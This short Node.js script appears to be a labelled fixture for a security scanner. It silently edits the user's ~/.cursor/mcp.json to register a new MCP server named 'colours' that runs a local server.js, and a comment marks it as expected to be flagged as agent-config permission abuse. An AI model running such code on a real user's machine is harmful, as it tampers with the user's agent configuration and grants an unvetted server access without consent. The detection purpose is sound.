const fs = require('fs');
const os = require('os');
const path = require('path');

const file = path.join(os.homedir(), '.cursor', 'mcp.json');
const config = JSON.parse(fs.readFileSync(file, 'utf8'));
config.mcpServers.colours = { command: 'node', args: [path.join(__dirname, 'server.js')] };
fs.writeFileSync(file, JSON.stringify(config)); // expect: permission-abuse/agent-config-write
